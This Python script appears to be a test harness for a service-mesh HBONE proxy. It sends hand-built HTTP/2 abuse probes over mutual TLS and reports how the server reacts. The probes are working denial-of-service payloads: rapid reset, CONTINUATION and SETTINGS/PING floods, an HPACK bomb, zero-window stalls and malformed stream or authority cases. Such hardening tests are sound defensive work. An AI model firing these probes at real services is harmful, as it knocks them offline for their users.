#!/usr/bin/env python3
"""HTTP/2 abuse probes against an HBONE listener (:15008), as a peer holding a valid mesh certificate.

One probe per run: TLS 1.3 (ALPN h2, no SNI) with --cert/--key, the client preface, then the probe's
frames (RFC 9113 §4-6, hand-built; HPACK literals without Huffman, RFC 7541 §6). Reads what the
server answers for a bounded time and prints one JSON line: {"probe", "connections", "sent_bytes",
"frames", "goaway": code|null, "rst": n, "headers": n, "data_bytes": n, "closed": bool} (--connections
runs the probe on that many connections at once; the counts are their sums). Exit 0 when the probe ran (the
server's reaction is judged by the test), 2 when TLS failed.
"""
import argparse
import json
import select
import socket
import ssl
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 0x1, 0x4


def frame(ftype, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", stream) + payload


def hint(n, prefix=7, first=0):
    top = (1 << prefix) - 1
    if n < top:
        return bytes([first | n])
    out, n = bytearray([first | top]), n - top
    while n >= 128:
        out.append(n % 128 + 128)
        n //= 128
    return bytes(out + bytes([n]))


def literal(name, value, index=False):
    name, value = name.encode(), value.encode()
    return bytes([0x40 if index else 0x00]) + hint(len(name)) + name + hint(len(value)) + value


def block(authority, method="CONNECT", extra=b""):
    return literal(":method", method) + literal(":authority", authority) + extra


def headers(stream, blk, flags=0, max_frame=16384):
    out, first = b"", True
    while True:
        part, blk = blk[:max_frame], blk[max_frame:]
        f = (flags if first else 0) | (END_HEADERS if not blk else 0)
        out += frame(HEADERS if first else CONTINUATION, f, stream, part)
        first = False
        if not blk:
            return out


def probe_bytes(name, authority):
    ok = block(authority)
    if name == "rapid_reset":
        return b"".join(headers(i, ok) + frame(RST, 0, i, struct.pack(">I", 8)) for i in range(1, 20001, 2))
    if name == "continuation_flood":
        return frame(HEADERS, 0, 1, ok) + b"".join(frame(CONTINUATION, 0, 1, literal("x-c", "y" * 100))
                                                  for _ in range(10000))
    if name == "hpack_bomb":
        bomb = literal("x-big", "a" * 4000, index=True) + bytes([0x80 | 62]) * 20000
        return b"".join(headers(i, ok + bomb, END_STREAM) for i in range(1, 21, 2))
    if name == "huge_headers":
        big = b"".join(literal("x-h%d" % i, "b" * 4000) for i in range(30))
        return headers(1, ok + big, END_STREAM)
    if name == "settings_flood":
        return frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100)) * 50000
    if name == "ping_flood":
        return frame(PING, 0, 0, b"\x01" * 8) * 50000
    if name == "window_update_overflow":
        return (frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7FFFFFFF)) * 2 + headers(1, ok)
                + frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 0x7FFFFFFF)) * 2)
    if name == "zero_window":
        return (frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
                + b"".join(headers(i, ok) + frame(DATA, 0, i, b"x" * 100) for i in range(1, 201, 2)))
    if name == "zero_window_download":
        # Issue 11 defect 3 at full scale: 100 streams per connection, each asking the hash app for
        # 8 MiB, with stream windows of 0 that are never opened. The proxy must stop reading the app.
        return (frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
                + b"".join(headers(i, ok) + frame(DATA, 0, i, b"MN1 %d 8388608\n" % i) for i in range(1, 201, 2)))
    if name == "even_stream_ids":
        return b"".join(headers(i, ok) for i in range(2, 202, 2))
    if name == "reused_stream_ids":
        return headers(1, ok, END_STREAM) + frame(RST, 0, 1, struct.pack(">I", 8)) + headers(1, ok)
    if name == "data_on_closed":
        return (headers(1, ok) + frame(RST, 0, 1, struct.pack(">I", 8))
                + b"".join(frame(DATA, 0, 1, b"z" * 1000) for _ in range(2000)))
    if name == "scheme_path":
        return headers(1, ok + literal(":scheme", "https") + literal(":path", "/"), END_STREAM)
    if name == "bad_authority":
        return b"".join(headers(i, block(a), END_STREAM) for i, a in
                        zip(range(1, 100, 2), ["", "x", "1.2.3.4", "1.2.3.4:0", "[::1", ":80", "a" * 300 + ":1",
                                              "10.0.0.1:99999", "127.0.0.1:15008", "0.0.0.0:80"]))
    if name == "non_connect":
        return b"".join(headers(i, block(authority, m, literal(":scheme", "https") + literal(":path", "/")), END_STREAM)
                        for i, m in zip(range(1, 20, 2), ["GET", "POST", "PUT", "DELETE", "PRI"]))
    raise SystemExit("unknown probe " + name)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("probe")
    ap.add_argument("--host", required=True)
    ap.add_argument("--port", type=int, default=15008)
    ap.add_argument("--authority", required=True)
    ap.add_argument("--cert", required=True)
    ap.add_argument("--key", required=True)
    ap.add_argument("--read-seconds", type=float, default=2.0)
    ap.add_argument("--connections", type=int, default=1, help="run the probe on this many connections at once")
    ap.add_argument("--no-read", action="store_true", help="never read: the server's answers pile up")
    args = ap.parse_args()

    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.minimum_version = ssl.TLSVersion.TLSv1_3
    ctx.set_alpn_protocols(["h2"])
    ctx.load_cert_chain(args.cert, args.key)
    result = {"probe": args.probe + ("_noread" if args.no_read else ""), "connections": args.connections,
              "sent_bytes": 0, "frames": 0, "goaway": None, "rst": 0, "headers": 0, "data_bytes": 0, "closed": False}
    socks = []
    try:
        for _ in range(args.connections):
            raw = socket.create_connection((args.host, args.port), timeout=10)
            socks.append(ctx.wrap_socket(raw))
    except (OSError, ssl.SSLError) as e:
        result["tls"] = str(e)
        print(json.dumps(result))
        return 2
    payload = PREFACE + frame(SETTINGS, 0, 0) + probe_bytes(args.probe, args.authority)
    for sock in socks:
        if args.no_read:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        sock.settimeout(5)
        try:
            sock.sendall(payload)
            result["sent_bytes"] += len(payload)
        except (OSError, ssl.SSLError) as e:
            result["send_error"] = str(e)
    if args.no_read:
        time.sleep(args.read_seconds)  # the attack is not reading; hold the connections open
        print(json.dumps(result))
        return 0
    bufs = {s: b"" for s in socks}
    until = time.monotonic() + args.read_seconds
    while bufs and time.monotonic() < until:
        ready = [s for s in bufs if s.pending()]  # TLS records already decrypted count as readable
        if not ready:
            ready, _, _ = select.select(list(bufs), [], [], max(0.05, until - time.monotonic()))
        for sock in ready:
            sock.settimeout(0.5)
            try:
                chunk = sock.recv(65536)
            except (socket.timeout, ssl.SSLWantReadError):
                continue
            except (OSError, ssl.SSLError) as e:
                chunk, result["read_error"] = b"", str(e)
            if not chunk:
                result["closed"] = True
                del bufs[sock]
                continue
            buf = bufs[sock] + chunk
            while len(buf) >= 9:
                n = int.from_bytes(buf[:3], "big")
                if len(buf) < 9 + n:
                    break
                ftype, body = buf[3], buf[9:9 + n]
                buf = buf[9 + n:]
                result["frames"] += 1
                if ftype == GOAWAY:
                    result["goaway"] = struct.unpack(">I", body[4:8])[0]
                elif ftype == RST:
                    result["rst"] += 1
                elif ftype == HEADERS:
                    result["headers"] += 1
                elif ftype == DATA:
                    result["data_bytes"] += n
            bufs[sock] = buf
    print(json.dumps(result))
    return 0


if __name__ == "__main__":
    sys.exit(main())
